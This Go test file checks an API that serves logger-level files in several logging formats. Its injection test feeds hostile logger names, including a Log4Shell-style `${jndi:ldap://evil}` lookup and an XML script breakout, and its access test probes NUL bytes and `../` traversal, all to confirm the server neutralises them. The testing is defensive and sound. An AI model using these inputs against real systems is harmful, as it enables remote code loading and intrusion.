package api_test

import (
	"bytes"
	"net/http"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/signalbox/signalbox/internal/app"
	"github.com/signalbox/signalbox/internal/app/apptest"
	"github.com/signalbox/signalbox/internal/levelfiles"
	"github.com/signalbox/signalbox/internal/store/storetest"
)

// levelsKey returns a key that may only read levels in production.
func (c client) levelsKey() madeKey {
	c.t.Helper()
	return c.makeKey(attributes{"role": "OWNER", "access": "levels", "scopes": attributes{"environments": []string{"production"}}})
}

func levelFileOf(file string) target {
	return func(owner client) (string, string) {
		return "/levels/" + owner.levelsKey().secret + "/production/" + file, ""
	}
}

// levelReader reads level files with one key, and sends no headers.
type levelReader struct {
	client
	prefix string
}

func (c client) readsLevels() levelReader {
	c.t.Helper()
	return levelReader{c.as(""), "/levels/" + c.levelsKey().secret + "/production/"}
}

// in returns the same reader for a subtest.
func (r levelReader) in(t testing.TB) levelReader {
	r.t = t
	return r
}

func (r levelReader) file(name string, options ...option) answer {
	r.t.Helper()
	return r.get(r.prefix+name, options...)
}

// levels returns the content of levels.json.
func (r levelReader) levels() map[string]string {
	r.t.Helper()
	levels := map[string]string{}
	r.file("levels.json").want(200).decode(&levels)
	return levels
}

// TestLevelFiles_Formats: each format has the names that services reported, and the framework's names of levels.
func TestLevelFiles_Formats(t *testing.T) {
	t.Parallel()
	onBoth(t, "pro", func(t *testing.T, owner client) {
		reader := owner.readsLevels()
		owner.observe(attributes{"id": "com.example.Shop", "service": "shop", "environment": "production"},
			attributes{"id": "com.example.Shop.Cart", "level": "ERROR", "service": "shop", "environment": "production"},
			attributes{"id": "org/Other", "service": "shop", "environment": "staging"}).want(200)
		owner.setLogger("com.example.shop", attributes{"level": "WARN", "environments": attributes{"production": attributes{"level": "TRACE"}}})
		owner.setLogger("org.other", attributes{"level": "SILENT"})
		owner.setLogger("typed.by.hand", attributes{"name": "typed.by.Hand", "level": "FATAL"})
		owner.setLogger("root", attributes{"level": "ERROR"})
		for file, want := range map[string]string{
			"logback.properties": "logback.logger.com.example.Shop=TRACE\nlogback.logger.com.example.Shop.Cart=TRACE\nlogback.logger.org/Other=OFF\nlogback.root=ERROR\nlogback.logger.typed.by.Hand=ERROR\n",
			"log4j2.xml": `<?xml version="1.0" encoding="UTF-8"?>
<Configuration monitorInterval="15">
  <Loggers>
    <Logger name="com.example.Shop" level="TRACE"/>
    <Logger name="com.example.Shop.Cart" level="TRACE"/>
    <Logger name="org/Other" level="OFF"/>
    <Root level="ERROR"/>
    <Logger name="typed.by.Hand" level="FATAL"/>
  </Loggers>
</Configuration>
`,
			"log4j2.json": `{"configuration":{"loggers":{"root":{"level":"ERROR"},"logger":[{"name":"com.example.Shop","level":"TRACE"},` +
				`{"name":"com.example.Shop.Cart","level":"TRACE"},{"name":"org/Other","level":"OFF"},{"name":"typed.by.Hand","level":"FATAL"}]},"monitorInterval":"15"}}` + "\n",
			"levels.json": `{"com.example.Shop":"TRACE","com.example.Shop.Cart":"TRACE","org/Other":"SILENT","root":"ERROR","typed.by.Hand":"FATAL"}` + "\n",
			"python.json": `{"version":1,"incremental":true,"root":{"level":"ERROR"},"loggers":{"com.example.Shop":{"level":5},` +
				`"com.example.Shop.Cart":{"level":5},"org/Other":{"level":100},"typed.by.Hand":{"level":"CRITICAL"}}}` + "\n",
		} {
			t.Run(file, func(t *testing.T) {
				got := withoutComments(string(reader.in(t).file(file).want(200).body))
				if difference := cmp.Diff(want, got); difference != "" {
					t.Errorf("differs (-want +got):\n%s", difference)
				}
			})
		}
	})
}

func withoutComments(text string) string {
	var kept strings.Builder
	for line := range strings.Lines(text) {
		if !strings.HasPrefix(line, "#") {
			kept.WriteString(line)
		}
	}
	return kept.String()
}

// TestLevelFiles_Released: a file tells a released, deleted or expired logger, and the loggers below it, to inherit the
// level again. A logger that is managed again is not told so.
func TestLevelFiles_Released(t *testing.T) {
	t.Parallel()
	onBoth(t, "pro", func(t *testing.T, owner client) {
		reader := owner.readsLevels()
		owner.observe(attributes{"id": "A.Cart.Below", "service": "shop"}, attributes{"id": "A.Deleted", "service": "shop"}).want(200)
		for _, key := range []string{"a.cart", "a.deleted", "a.again", "root"} {
			owner.setLogger(key, attributes{"level": "DEBUG"})
		}
		owner.setLogger("a.expires", attributes{"level": "DEBUG", "level_ttl_seconds": 1})
		lines := func() string { return withoutComments(string(reader.file("logback.properties").want(200).body)) }
		if got := lines(); !strings.Contains(got, "logback.logger.A.Cart.Below=DEBUG\n") || strings.Contains(got, "INHERITED") {
			t.Fatalf("got %s", got)
		}
		for _, key := range []string{"a.cart", "a.again", "root"} {
			owner.setLogger(key, attributes{"managed": false})
		}
		owner.delete(loggersPath + "/a.deleted").want(204)
		owner.setLogger("a.again", attributes{"level": "WARN"})
		want := "logback.logger.a.again=WARN\nlogback.logger.a.cart=INHERITED\nlogback.logger.A.Deleted=INHERITED\nlogback.logger.a.expires=INHERITED\nlogback.logger.A.Cart.Below=INHERITED\n"
		storetest.Wait(t, patience, "the level has expired", func() bool { return !strings.Contains(lines(), "a.expires=DEBUG") })
		if difference := cmp.Diff(want, lines()); difference != "" {
			t.Errorf("-want +got:\n%s", difference)
		}
		if got := reader.levels(); len(got) != 1 || got["a.again"] != "WARN" {
			t.Errorf("got %v", got)
		}
		var python struct {
			Loggers map[string]struct{ Level any }
		}
		reader.file("python.json").want(200).decode(&python)
		if python.Loggers["A.Deleted"].Level != "NOTSET" || python.Loggers["a.again"].Level != "WARNING" {
			t.Errorf("got %v", python)
		}
		if got := reader.file("log4j2.xml").want(200); got.contains("Deleted") || got.contains("Root") {
			t.Errorf("got %s", got.body)
		}
	})
}

// TestLevelFiles_Conditional: Last-Modified moves with each change of these levels by a second or more, and with no other
// change of the account.
func TestLevelFiles_Conditional(t *testing.T) {
	t.Parallel()
	onBoth(t, "pro", func(t *testing.T, owner client) {
		reader := owner.readsLevels()
		known := reader.file("log4j2.xml").want(200).header
		for _, level := range []string{"DEBUG", "ERROR", "WARN", "INFO", "TRACE"} {
			owner.setLogger("shop", attributes{"level": level})
			next := reader.file("log4j2.xml", with("If-Modified-Since", known.Get("Last-Modified"))).want(200)
			if !modified(t, next.header).After(modified(t, known)) || !next.contains(`level="`+level+`"`) {
				t.Fatalf("after %v: %v, %s", known, next.header, next.body)
			}
			known = next.header
			if control := known.Get("Cache-Control"); control != "private, no-cache" {
				t.Fatalf("Cache-Control is %q", control)
			}
			reader.file("log4j2.xml", with("If-None-Match", known.Get("Etag")), with("If-Modified-Since", "Mon, 01 Jan 2001 00:00:00 GMT")).want(304)
			reader.file("log4j2.xml", with("If-None-Match", `"other"`), with("If-Modified-Since", known.Get("Last-Modified"))).want(200)
		}
		owner.makeFlag("unrelated", nil)
		owner.makeEnvironment("elsewhere")
		owner.setLogger("shop", attributes{"level": "TRACE", "environments": attributes{"elsewhere": attributes{"level": "WARN"}}})
		owner.observe(attributes{"id": "other", "service": "shop"}).want(200)
		got := reader.file("log4j2.xml", with("If-Modified-Since", known.Get("Last-Modified"))).want(304)
		if got.header.Get("Last-Modified") != known.Get("Last-Modified") || len(got.body) != 0 {
			t.Errorf("got %v", got.header)
		}
	})
}

func modified(t *testing.T, header http.Header) time.Time {
	t.Helper()
	at, err := http.ParseTime(header.Get("Last-Modified"))
	if err != nil {
		t.Fatal(err)
	}
	return at
}

// TestLevelFiles_Nodes: nodes agree on the Last-Modified of a file, also a node that started later, so that a program behind
// a load balancer does not load the same levels again and again.
func TestLevelFiles_Nodes(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, database storetest.Database) {
		owner := start(t, database)
		reader := owner.readsLevels()
		for _, level := range []string{"DEBUG", "ERROR", "WARN"} { // within a second
			owner.setLogger("shop", attributes{"level": level})
		}
		here := modified(t, reader.file("log4j2.xml").want(200).header)
		if database.Kind == "sqlite" {
			return // one process at a time
		}
		other := levelReader{speakTo(t, apptest.Start(t, database)).as(""), reader.prefix}
		if there := modified(t, other.file("log4j2.xml").want(200).header); !there.Equal(here) {
			t.Errorf("one node says %s, the other %s", here, there)
		}
	})
}

// TestLevelFiles_Restore: a program whose file is newer than a restored database loads its levels again.
func TestLevelFiles_Restore(t *testing.T) {
	t.Parallel()
	database := storetest.New(t, "sqlite")
	backup := filepath.Join(t.TempDir(), "copy.db")
	var reader levelReader
	var newer string
	t.Run("before", func(t *testing.T) { // the end of the test stops the node
		owner := start(t, database)
		reader = owner.readsLevels()
		owner.setLogger("shop", attributes{"level": "WARN"})
		if _, err := app.Backup(t.Context(), apptest.Settings(database), backup); err != nil {
			t.Fatal(err)
		}
		for _, level := range []string{"ERROR", "TRACE", "DEBUG"} {
			owner.setLogger("shop", attributes{"level": level})
		}
		newer = reader.file("log4j2.xml").want(200).header.Get("Last-Modified")
	})
	if _, err := app.Restore(t.Context(), apptest.Settings(database), backup); err != nil {
		t.Fatal(err)
	}
	restored := levelReader{start(t, database).as(""), reader.prefix}
	got := restored.file("log4j2.xml", with("If-Modified-Since", newer)).want(200)
	if !got.contains(`level="WARN"`) {
		t.Errorf("got %s", got.body)
	}
	restored.file("log4j2.xml", with("If-Modified-Since", got.header.Get("Last-Modified"))).want(304)
}

// TestLevelFiles_Access: the path takes keys for levels in their environment and no other, and such a key works nowhere
// else: see TestLevelsKey_EveryRoute.
func TestLevelFiles_Access(t *testing.T) {
	t.Parallel()
	owner := newOwner(t, "pro")
	reader, evaluator := owner.readsLevels(), owner.evaluator()
	revoked := owner.levelsKey()
	path := "/levels/" + revoked.secret + "/production/levels.json"
	reader.get(path).want(200)
	owner.post(revoked.path+"/actions/revoke", "").want(200)
	for name, c := range map[string]struct {
		path string
		want int
	}{
		"a revoked key":          {path, 401},
		"a key of an owner":      {"/levels/" + owner.key + "/production/levels.json", 403},
		"a key for evaluation":   {"/levels/" + evaluator.key + "/production/levels.json", 403},
		"an unknown key":         {"/levels/sk_api_garbage/production/levels.json", 401},
		"NUL":                    {"/levels/%00/production/levels.json", 401},
		"another environment":    {strings.Replace(reader.prefix, "production", "staging", 1) + "levels.json", 403},
		"an unknown environment": {strings.Replace(reader.prefix, "production", "nowhere", 1) + "levels.json", 403},
		"no file":                {reader.prefix, 404},
		"an unknown file":        {reader.prefix + "other.json", 404},
		"a folder":               {reader.prefix + "levels.json/", 404},
		"two dots":               {reader.prefix + "../production/levels.json", 404},
	} {
		t.Run(name, func(t *testing.T) {
			got := owner.in(t).as("").get(c.path, offContract)
			if got.status != c.want {
				t.Errorf("got %d, want %d: %s", got.status, c.want, got.body)
			}
			if got.contains("sk_api_") {
				t.Errorf("the answer has a key: %s", got.body)
			}
		})
	}
	owner.get(reader.prefix+"levels.json", with("Authorization", "Bearer "+evaluator.key)).want(200) // headers do not count
	reader.file("levels.json?service=", offContract).refused(400, wrongParameter("service"))
	reader.file("levels.json?service=%00", offContract).refused(400, wrongParameter("service"))
	reader.send(http.MethodPost, reader.prefix+"levels.json", "", offContract).want(405)
	reader.send(http.MethodHead, reader.prefix+"levels.json", "").want(200)
}

// TestLevelsKey_EveryRoute: whatever its role, a key for levels may read levels, and call what needs no key.
func TestLevelsKey_EveryRoute(t *testing.T) {
	t.Parallel()
	owner := newOwner(t, "pro")
	reader := owner.as(owner.levelsKey().secret)
	for _, row := range accessTable() {
		t.Run(row.route, func(t *testing.T) {
			t.Parallel()
			path, body := row.target(owner.in(t))
			method, _, _ := strings.Cut(row.route, " ")
			want := strings.Fields(row.want)[0]
			refused := want == "401" && row.route != "GET /ofrep/v1/events" // only the token of a stream opens it
			if refused {
				want = "403"
			}
			got := reader.in(t).send(method, path, body, inProduction(path))
			if strconv.Itoa(got.status) != want || refused && !got.contains("may only read log levels under /levels/") {
				t.Errorf("got %d, want %s: %s", got.status, want, got.body)
			}
		})
	}
}

// TestLevelFiles_Polls: a service that polls appears among the services and the connections, by its name and User-Agent.
func TestLevelFiles_Polls(t *testing.T) {
	t.Parallel()
	onBoth(t, "pro", func(t *testing.T, owner client) {
		reader := owner.readsLevels()
		poll := func(query string) { reader.file("levels.json"+query, with("User-Agent", "Java/17.0.1")).want(200) }
		poll("?service=checkout")
		before := owner.latest().ID
		for range 20 {
			poll("?service=checkout")
			poll("")
		}
		owner.get(servicesPath + "/checkout").want(200)
		if after := owner.latest().ID; after != before {
			t.Errorf("polls are changes: %s, %s", before, after)
		}
		var shown []string
		storetest.Wait(t, patience, "both are connected", func() bool {
			shown = nil
			for _, each := range owner.get("/api/v1/connections").want(200).page().Data {
				service, _ := each.Attributes["service"].(string)
				shown = append(shown, service+" "+each.Attributes["client"].(string)+" "+each.Attributes["environment"].(string))
			}
			return len(shown) == 2
		})
		for _, want := range []string{"checkout Java/17.0.1 production", " Java/17.0.1 production"} {
			if shown[0] != want && shown[1] != want {
				t.Errorf("got %q", shown)
			}
		}
	})
}

// TestLevelFiles_Injection: services choose names, which must stay names in every format.
func TestLevelFiles_Injection(t *testing.T) {
	t.Parallel()
	owner := newOwner(t, "pro")
	reader := owner.readsLevels()
	names := []string{`a.x"/><Script>`, "a.${jndi:ldap://evil}", "a.=DEBUG b", `a.\u0041`, "a.#!", "a.żółw😀", "a.Inner$Class"}
	for _, name := range names {
		owner.observe(attributes{"id": name, "service": "evil"}).want(200)
	}
	owner.setLogger("a", attributes{"level": "DEBUG"})
	if levels := reader.levels(); len(levels) != len(names)+1 {
		t.Errorf("got %v", levels)
	}
	for _, file := range []string{"log4j2.xml", "log4j2.json", "logback.properties"} {
		t.Run(file, func(t *testing.T) {
			if got := reader.in(t).file(file).want(200); got.contains("jndi") || got.contains("<Script") && file == "log4j2.xml" || bytes.ContainsAny(got.body, "\x00\r") {
				t.Errorf("got %s", got.body)
			}
		})
	}
	want := []string{"# ", "# ", "logback.logger.a=DEBUG", `logback.logger.a.\#\!=DEBUG`, `logback.logger.a.\=DEBUG\ b=DEBUG`, `logback.logger.a.\\u0041=DEBUG`,
		"logback.logger.a.Inner$Class=DEBUG", `logback.logger.a.x"/><Script>=DEBUG`, `logback.logger.a.\u017c\u00f3\u0142w\ud83d\ude00=DEBUG`}
	lines := strings.Split(strings.TrimSpace(string(reader.file("logback.properties").want(200).body)), "\n")
	if len(lines) != len(want) {
		t.Fatalf("got %q", lines)
	}
	for i, each := range want {
		if !strings.HasPrefix(lines[i], each) {
			t.Errorf("got %q, want %q", lines[i], each)
		}
	}
}

// TestLevelFiles_Outage: while the database is away, the files are answered from memory, and temporary levels still end.
func TestLevelFiles_Outage(t *testing.T) {
	t.Parallel()
	direct := storetest.New(t, "postgres")
	behind, proxy := direct.ThroughProxy(t)
	owner := speakTo(t, apptest.Start(t, behind))
	reader, unseen := owner.readsLevels(), owner.readsLevels()
	owner.setLogger("stays", attributes{"level": "DEBUG"})
	owner.setLogger("ends", attributes{"level": "DEBUG", "level_ttl_seconds": 4})
	known := reader.file("log4j2.xml").want(200)
	proxy.Down()
	storetest.Wait(t, patience, "the level ends", func() bool {
		got := reader.file("log4j2.xml", with("If-Modified-Since", known.header.Get("Last-Modified")))
		return got.status == 200 && got.header.Get("Age") != "" && !got.contains("ends")
	})
	got := reader.file("log4j2.xml").want(200)
	if !modified(t, got.header).After(modified(t, known.header)) || !got.contains(`<Logger name="stays" level="DEBUG"/>`) {
		t.Errorf("got %v, %s", got.header, got.body)
	}
	reader.file("log4j2.xml", with("If-Modified-Since", got.header.Get("Last-Modified"))).want(304)
	if lines := reader.file("logback.properties").want(200); !lines.contains("logback.logger.ends=INHERITED\n") {
		t.Errorf("got %s", lines.body)
	}
	if status := unseen.file("levels.json").status; status != 503 {
		t.Errorf("a key that was never seen gets %d", status)
	}
	proxy.Up()
	confirmed(t, func() answer { return reader.file("levels.json") }).want(200)
	if levels := reader.levels(); len(levels) != 1 || levels["stays"] != "DEBUG" {
		t.Errorf("got %v", levels)
	}
}

// TestLevelFiles_LargeAccount: 10,000 loggers are one read of the database however often they are polled.
func TestLevelFiles_LargeAccount(t *testing.T) {
	t.Parallel()
	owner := newOwner(t, "pro")
	reader := owner.readsLevels()
	var items []attributes
	for i := range 9_999 {
		items = append(items, attributes{"id": "com.example.Service" + strconv.Itoa(i), "service": "large"})
	}
	owner.observe(items...).want(200)
	owner.setLogger("com", attributes{"level": "DEBUG"})
	known := map[string]http.Header{}
	for _, format := range levelfiles.Formats() {
		got := reader.file(format.Name).want(200)
		if lines := bytes.Count(got.body, []byte("com.example.Service")); lines != 9_999 {
			t.Errorf("%s has %d loggers", format.Name, lines)
		}
		known[format.Name] = got.header
	}
	for range 50 {
		for _, format := range levelfiles.Formats() {
			reader.file(format.Name, with("If-Modified-Since", known[format.Name].Get("Last-Modified"))).want(304)
		}
	}
}
